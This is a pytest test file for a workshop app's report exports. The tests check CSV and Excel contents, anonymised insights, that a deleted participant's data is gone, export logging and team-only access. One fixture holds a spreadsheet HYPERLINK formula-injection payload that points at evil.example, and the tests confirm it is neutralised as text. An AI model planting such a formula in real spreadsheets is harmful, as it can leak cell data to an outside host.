"""The report's exports: what each file holds, that the insights hold nothing personal, that
a deletion on "Your data" reaches every export made afterwards, and that each is recorded."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from sessions.domain import answers, interactions, opentext, participants, runs, wordclouds
from sessions.domain.exports import RESULTS, NoSuchExport, run_export, sheet_title
from sessions.domain.permissions import PermissionDenied
from sessions.domain.selectors import actor_for_participant
from sessions.models import ExportRecord, Kind, Run

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click me")'


def rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would garble macrons"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def export(run, actor, what, key=""):
    return run_export(run=run, actor=actor, what=what, interaction_key=key)


def choose_on_slide(run, fran, number, chosen):
    """The facilitator goes to slide `number`; each participant (actor) chooses their option
    of the question it opens."""
    runs.slide_goto(run=Run.objects.get(pk=run.pk), actor=fran, number=number)
    item = run.interactions.get(slide_number=number)
    for actor, choice in chosen.items():
        answers.answer_choose(run=run, actor=actor, interaction=item.pk, choice=choice)


@pytest.fixture
def ran(run, actors):
    """Five people answer the introductions, the video poll, a quiz question, an open question
    and a word cloud; the team shortlists one response, keeps one open answer for insights and
    hides one word; then the run ends."""
    fran = actors["fran"]
    runs.run_update(run=run, actor=fran, waiting_room=False)
    runs.run_start(run=run, actor=fran)
    run = Run.objects.get(pk=run.pk)
    people = [
        participants.participant_join(run=run, display_name=name, show_name=name == "Aroha")
        for name in ("Aroha", "Sam", "Mere", "Tama", "")
    ]
    me = [actor_for_participant(p) for p in people]
    intro = run.interactions.get(key="introductions")
    said = {
        0: "Kia ora, I'm Aroha: my whānau comes first",
        1: "Plain words on every form",
        2: FORMULA,
    }
    for i, words in said.items():
        answers.answer_write(run=run, actor=me[i], interaction=intro.pk, text=words)
    answers.answer_write(run=run, actor=me[3], interaction=intro.pk, passed=True)
    kept = intro.responses.get(participant=people[1])
    answers.response_mark(run=run, actor=fran, response=kept.pk, shortlisted=True)

    choose_on_slide(run, fran, 2, dict(zip(me, (0, 0, 0, 1, 0), strict=True)))
    quiz = run.interactions.get(slide_number=17)
    right, wrong = (
        quiz.correct[0],
        next(i for i in range(len(quiz.options)) if i not in quiz.correct),
    )
    choose_on_slide(run, fran, 17, dict(zip(me[:3], (right, right, wrong), strict=True)))

    asked = interactions.interaction_create(
        run=run, actor=fran, kind=Kind.TEXT, text="What would you tell a new colleague?"
    )
    written = {0: "Ask before you share", 1: "Tell people why you ask", 2: "Mere: my cousin's file"}
    for i, text in written.items():
        mine = opentext.answer_text(run=run, actor=me[i], interaction=asked.pk, text=text)
        if i == 1:  # the team read Sam's and kept it for insights; the others not
            opentext.text_keep(run=run, actor=fran, response=mine.pk)

    cloud = interactions.interaction_create(
        run=run, actor=fran, kind=Kind.WORDS, text="One word for what privacy means to you"
    )
    sent = (["whānau", "trust"], ["Whānau", "trust"], ["whanau", "trust"], ["Tama"], ["rude"])
    for actor, words in zip(me, sent, strict=True):
        wordclouds.answer_words(run=run, actor=actor, interaction=cloud.pk, words=words)
    wordclouds.words_hide(run=run, actor=fran, interaction=cloud.pk, word="rude")
    runs.run_end(run=run, actor=fran)
    return Run.objects.get(pk=run.pk), people, cloud


def test_an_interaction_csv_says_who_answered_what_and_keeps_macrons(ran, actors):
    run, _, _ = ran
    made = export(run, actors["hana"], "interaction-csv", "introductions")
    assert made.filename == f"{run.code}-introductions.csv"
    assert made.content_type == "text/csv; charset=utf-8"
    header, *body = rows(made.content)
    assert header[:3] == ["Participant", "Breakout group", "Response"]
    by_person = {row[0]: row for row in body}
    assert by_person["Aroha"][2] == "Kia ora, I'm Aroha: my whānau comes first"
    assert by_person["Sam"][header.index("Shortlisted")] == "yes"
    assert by_person["Tama"][header.index("Passed")] == "yes"
    assert "Participant 5" not in by_person  # they answered nothing here


def test_poll_and_quiz_csvs_name_the_option_and_whether_it_was_right(ran, actors):
    run, _, _ = ran
    header, *body = rows(
        export(run, actors["fran"], "interaction-csv", "watched-intro-video").content
    )
    assert header == ["Participant", "Answer", "Answered at"]
    assert body[3][:2] == ["Tama", "B. Not yet"] and body[0][1] == "A. Yes"
    quiz = run.interactions.get(slide_number=17)
    header, *body = rows(export(run, actors["fran"], "interaction-csv", quiz.key).content)
    assert header == ["Participant", "Answer", "Correct", "Answered at"]
    assert [row[2] for row in body] == ["yes", "yes", "no"]
    assert body[0][1].startswith(f"{'ABCD'[quiz.correct[0]]}. ")


def test_a_word_cloud_csv_has_a_row_per_word_sent_and_marks_the_hidden(ran, actors):
    run, _, cloud = ran
    header, *body = rows(export(run, actors["fran"], "interaction-csv", cloud.key).content)
    assert header == ["Participant", "Word", "Hidden by the team", "Sent at"]
    assert [row[:3] for row in body] == [
        ["Aroha", "whānau", ""], ["Aroha", "trust", ""], ["Sam", "Whānau", ""],
        ["Sam", "trust", ""], ["Mere", "whanau", ""], ["Mere", "trust", ""],
        ["Tama", "Tama", ""], ["Participant 5", "rude", "yes"],
    ]  # fmt: skip


def test_attendance_lists_everyone_as_the_team_sees_them(ran, actors):
    run, people, _ = ran
    participants.participant_leave(participant=people[2])
    header, *body = rows(export(run, actors["fran"], "attendance-csv").content)
    assert header == [
        "Number", "Name (as the team sees it)", "Named on shared screens", "Status", "Joined at",
        "Admitted at",
    ]  # fmt: skip
    assert body[0][:4] == ["1", "Aroha", "yes", "Admitted"]
    assert body[1][:4] == ["2", "Sam", "", "Admitted"]
    assert body[4][:2] == ["5", "Participant 5"]
    assert body[0][4].startswith("2026-") and body[0][5]
    # Mere left and took her data: her number stays, so the others' hold.
    assert body[2] == ["3", "Participant 3", "", "Left and deleted their data", "", ""]


def test_a_typed_formula_is_text_in_every_file(ran, actors):
    run, _, _ = ran
    fran = actors["fran"]
    body = rows(export(run, fran, "interaction-csv", "introductions").content)
    assert {row[0]: row[2] for row in body}["Mere"] == "'" + FORMULA
    assert FORMULA not in [cell for row in body for cell in row]
    workbook = export(run, fran, "workbook").content
    sheet = load_workbook(io.BytesIO(workbook)).worksheets[1]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(workbook)) as files:
        assert not any(b"<f>" in files.read(name) for name in files.namelist())


def test_the_workbook_has_attendance_and_a_sheet_per_interaction(ran, actors):
    run, _, cloud = ran
    made = export(run, actors["pita"], "workbook")
    assert made.filename == f"{run.code}-results.xlsx"
    book = load_workbook(io.BytesIO(made.content))
    opened = run.interactions.exclude(state="ready").count()
    assert len(book.sheetnames) == 1 + opened + 1 == 8  # the slide 1 word cloud among them
    assert book.sheetnames[0] == "Attendance"
    assert book.sheetnames[-1] == "Reactions"  # counts per slide (tests/sessions/test_reactions)
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in book.sheetnames)
    attendance = book["Attendance"]
    assert attendance["A1"].value == "Attendance: DPUP for the team"
    assert [c.value for c in attendance[4]][:4] == [1, "Aroha", "yes", "Admitted"]
    words = book[book.sheetnames[-2]]
    assert words["A1"].value == f"Word cloud: {cloud.text}"
    assert [c.value for c in words[3]] == ["Participant", "Word", "Hidden by the team", "Sent at"]
    assert [c.value for c in words[4]][:2] == ["Aroha", "whānau"]
    intro = book.worksheets[1]
    assert intro.title == "1 Introduce yourself — your"  # cut at a word
    assert any(c.value == "Kia ora, I'm Aroha: my whānau comes first" for c in intro["C"])


def test_sheet_titles_are_ones_excel_accepts():
    taken: set[str] = set()
    long = "What would you say? [a colleague asks] about data/privacy: *really*"
    first = sheet_title(long, taken)
    assert first == "What would you say a colleague"
    assert len(first) <= 31 and not set(first) & set("[]:*?/\\")
    assert sheet_title(long, taken) == "What would you say a (2)"
    assert sheet_title("attendance", {"attendance"}) == "attendance (2)"  # Excel ignores case
    assert sheet_title("'quoted'", set()) == "quoted" and sheet_title("???", set()) == "Sheet"


def test_insights_hold_counts_and_nothing_personal(ran, actors):
    run, people, cloud = ran
    made = export(run, actors["fran"], "insights")
    assert made.filename == f"{run.code}-insights.csv"
    header, *body = rows(made.content)
    assert header == ["Slide", "Kind", "Question", "Answer", "Count"]
    every_cell = "\n".join(cell for row in body for cell in row)
    for name in ("Aroha", "Sam", "Mere", "Tama", "Participant"):
        assert name not in every_cell  # Tama sent his own name to the word cloud
    # No response is copied out, not even one the team shortlisted for the room.
    for typed in (
        "my whānau comes first",
        "Plain words on every form",
        "HYPERLINK",
        "rude",
        "whanau",
        "Ask before you share",  # open answers the team did not keep
        "my cousin's file",
    ):
        assert typed not in every_cell
    answers_of = {}
    for _slide, _kind, question, answer, count in body:
        answers_of.setdefault(question, {})[answer] = count
    poll = answers_of["Have you watched the Introduction to DPUP video?"]
    assert poll == {"A. Yes": "4", "B. Not yet": "fewer than 3"}
    intro = next(v for q, v in answers_of.items() if q.startswith("Introduce yourself"))
    assert intro["Wrote a response"] == "3"
    assert intro["Passed"] == intro["Offered to share aloud"] == "fewer than 3"
    # Words fewer than 3 sent are not named ("whānau" 2, "whanau" and "Tama" 1 each), only
    # counted together; "rude", hidden by the team, not at all.
    # An open question: how many answered, and only the answer the team read and kept.
    assert answers_of["What would you tell a new colleague?"] == {
        "Answers": "3",
        "Tell people why you ask": "kept by the team",
    }
    assert answers_of[cloud.text] == {
        "trust": "3",
        "Other answers, each given by fewer than 3 people": "4",
    }


def test_the_insights_threshold_is_a_setting(ran, actors, settings):
    run, _, cloud = ran
    settings.INSIGHTS_MIN_COUNT = 2
    body = rows(export(run, actors["fran"], "insights").content)[1:]
    words = {row[3]: row[4] for row in body if row[2] == cloud.text}
    assert words == {
        "trust": "3",
        "whānau": "2",
        "Other answers, each given by fewer than 2 people": "2",  # "whanau" and "Tama"
    }
    assert ["A. Yes", "4"] in [row[3:] for row in body]
    assert "fewer than 3" not in str(body)


def test_what_your_data_deleted_is_in_no_export_made_afterwards(ran, actors, client):
    run, people, cloud = ran
    aroha = people[0]
    participants.participant_leave(participant=aroha)
    fran = actors["fran"]
    files = [
        export(run, fran, "interaction-csv", key).content.decode("utf-8-sig")
        for key in run.interactions.values_list("key", flat=True)
    ]
    files.append(export(run, fran, "attendance-csv").content.decode("utf-8-sig"))
    files.append(export(run, fran, "insights").content.decode("utf-8-sig"))
    book = load_workbook(io.BytesIO(export(run, fran, "workbook").content))
    files.append(
        "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)
    )
    for content in files:
        assert "Aroha" not in content and "my whānau comes first" not in content
    insights = rows(export(run, fran, "insights").content)
    poll = {row[3]: row[4] for row in insights if row[2].startswith("Have you watched")}
    assert poll["A. Yes"] == "3"  # her answer no longer counts


def test_every_export_is_recorded_and_listed_on_the_report(ran, users, client):
    run, _, _ = ran
    users["hana"].first_name, users["hana"].last_name = "Hana", "Ngata"
    users["hana"].save()
    client.force_login(users["hana"])
    client.get(f"/runs/{run.code}/report/export/insights/")
    client.force_login(users["pita"])
    client.get(f"/runs/{run.code}/report/export/interaction/introductions.csv")
    records = list(ExportRecord.objects.filter(run=run))
    assert [(r.user.username, r.what, r.interaction_key) for r in records] == [
        ("pita", "interaction-csv", "introductions"),
        ("hana", "insights", ""),
    ]
    page = client.get(f"/runs/{run.code}/report/").content.decode()
    made = page.split('id="exports-made"', 1)[1].split("</table>", 1)[0]
    assert "Hana Ngata" in made and "Insights, no personal data (CSV)" in made
    assert "pita" in made and "One interaction (CSV): introductions" in made
    assert made.index("pita") < made.index("Hana Ngata")  # newest first


def test_the_report_offers_every_export(ran, users, client):
    run, _, cloud = ran
    client.force_login(users["fran"])
    page = client.get(f"/runs/{run.code}/report/").content.decode()
    block = page.split('id="report-exports"', 1)[1].split("</section>", 1)[0]
    for what in ("workbook", "insights", "attendance-csv"):
        assert f'href="/runs/{run.code}/report/export/{what}/"' in block
    assert f'href="/runs/{run.code}/report/export/interaction/{cloud.key}.csv"' in block
    assert "fewer than 3" in block and "Exports made: none yet." in block


@pytest.mark.parametrize(
    ("url", "filename", "content_type"),
    [
        ("workbook/", "results.xlsx", "application/vnd.openxmlformats-"),
        ("insights/", "insights.csv", "text/csv"),
        ("attendance-csv/", "attendance.csv", "text/csv"),
        ("interaction/watched-intro-video.csv", "watched-intro-video.csv", "text/csv"),
    ],
)
def test_each_export_downloads_as_a_file(ran, users, client, url, filename, content_type):
    run, _, _ = ran
    client.force_login(users["pita"])
    response = client.get(f"/runs/{run.code}/report/export/{url}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"] == f'attachment; filename="{run.code}-{filename}"'
    assert "no-cache" in response["Cache-Control"]
    assert client.post(f"/runs/{run.code}/report/export/{url}").status_code == 405


def test_exports_are_for_the_team_only(ran, users, client):
    run, _, _ = ran
    url = f"/runs/{run.code}/report/export/workbook/"
    assert client.get(url).url.startswith("/accounts/login/")
    client.force_login(users["outsider"])
    refused = client.get(url)
    assert refused.status_code == 403
    assert "a presenter can export this workshop" in refused.content.decode()
    assert not ExportRecord.objects.exists()
    with pytest.raises(PermissionDenied):
        run_export(run=run, actor=actor_for_participant(run.participants.first()), what="insights")


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("interaction/no-such-thing.csv", "This workshop has no interaction “no-such-thing”"),
        ("everything/", "There is no export called “everything”"),
        ("interaction-csv/", "Choose which of the workshop"),
        ("interaction/.csv", "nothing at this address"),
    ],
)
def test_an_export_that_does_not_exist_is_not_found(ran, users, client, url, said):
    run, _, _ = ran
    client.force_login(users["fran"])
    response = client.get(f"/runs/{run.code}/report/export/{url}")
    assert response.status_code == 404
    assert said in response.content.decode()  # the page says what was not found
    assert not ExportRecord.objects.exists()


def test_a_service_caller_gets_a_named_error_for_an_unknown_export(ran, actors):
    run, _, _ = ran
    with pytest.raises(NoSuchExport, match="no-such-key"):
        export(run, actors["fran"], "interaction-csv", "no-such-key")
    with pytest.raises(NoSuchExport, match="pdf"):
        export(run, actors["fran"], "pdf")


def test_every_kind_of_interaction_has_an_export():
    """A new kind plugs in with one function (`@exports(kind)` in sessions/domain/exports.py):
    without one, its interactions would be missing from every file."""
    assert set(Kind.values) <= set(RESULTS)


def test_the_workbook_reads_all_responses_at_once(ran, actors, django_assert_num_queries):
    """Attendance, the interactions, all their responses and the reactions: one query each,
    then the record (in its savepoint): not a query per interaction, so a long run exports as
    fast as a short one."""
    run, _, _ = ran
    with django_assert_num_queries(5 + 2):
        export(run, actors["fran"], "workbook")
